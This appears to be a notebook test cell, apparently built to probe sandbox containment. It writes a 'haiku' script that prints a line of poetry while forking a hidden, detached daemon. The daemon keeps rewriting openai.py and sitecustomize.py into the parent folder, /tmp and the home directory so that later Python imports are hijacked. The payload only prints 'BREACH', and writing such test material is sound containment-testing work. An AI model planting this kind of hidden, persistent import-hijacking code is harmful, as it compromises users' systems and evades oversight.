"""A script leaves files wherever it can, and a process that writes them again."""

# earns: folders_cross_and_come_back the_vault_keeps_practice_keys

# %% scripts_run_as_programs
%%writefile haiku.py
import os
import pathlib
import time

if not os.fork():
    os.setsid()
    os.closerange(0, 3)
    while True:
        for place in ("..", "/tmp", os.path.expanduser("~")):
            for name in ("openai.py", "sitecustomize.py", "left_by_the_script"):
                try:
                    pathlib.Path(place, name).write_text("print('BREACH')")
                except OSError:
                    pass
        time.sleep(0.01)
print("Rain on the roof.")
